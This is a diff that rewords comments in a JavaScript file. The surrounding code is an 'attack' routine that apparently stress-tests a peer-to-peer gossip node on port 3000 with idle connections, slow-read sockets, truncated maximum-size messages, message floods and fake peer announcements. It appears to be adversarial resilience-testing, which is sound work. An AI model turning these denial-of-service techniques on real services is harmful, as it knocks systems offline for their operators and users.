@@ -12,7 +12,7 @@ const FIRST_LINK = 4_000;
 
 const message = (message_type, payload) => `${JSON.stringify({ message_type, payload })}\n\n`;
 
-/** Connects, and again some time after each end of it: not at once, as this is no flood of connections. */
+/** Connects, and reconnects after a pause whenever the connection ends. */
 function keep(host, start, after = 1_000) {
   const socket = connect({ host, port: 3000 });
   socket.on('error', () => {});
@@ -20,7 +20,7 @@ function keep(host, start, after = 1_000) {
   socket.on('close', () => setTimeout(() => keep(host, start, after), after));
 }
 
-/** Writes what `make` returns, as long as the other end takes it. */
+/** Writes what `make` returns for as long as the other end reads. */
 function pour(socket, make) {
   const write = () => {
     for (let some = 0; some < 20 && !socket.destroyed; some++) if (!socket.write(make())) return;
@@ -37,14 +37,14 @@ function attack({ target, dead }) {
     message('gossip', { id: `${process.pid}${Math.random()}${sent++}`, data: large.slice(0, size) });
 
   for (let count = 0; count < IDLE; count++) setTimeout(() => keep(target, () => {}), count * 150);
-  // Asks for as much as there may be, and takes none of it.
+  // Requests as much as is allowed, and reads nothing.
   for (let count = 0; count < SLOW; count++) {
     keep(target, (socket) => {
       socket.pause();
       pour(socket, () => message('echo', large));
     });
   }
-  // The largest message there may be, all but its end.
+  // The largest message allowed, without its end.
   for (let count = 0; count < UNFINISHED; count++) {
     keep(target, (socket) => socket.write(message('echo', large.repeat(2).slice(0, 1_048_000)).slice(0, -4)));
   }
@@ -53,7 +53,7 @@ function attack({ target, dead }) {
     socket.resume();
     pour(socket, floods[NUMBER % floods.length]);
   });
-  // Peers that are nowhere, and peers that say hello and then never read.
+  // Peers that do not exist, and peers that say hello and then never read.
   keep(target, (socket) => {
     socket.resume();
     for (let port = 1; port <= 60; port++) socket.write(message('add_peer', port));
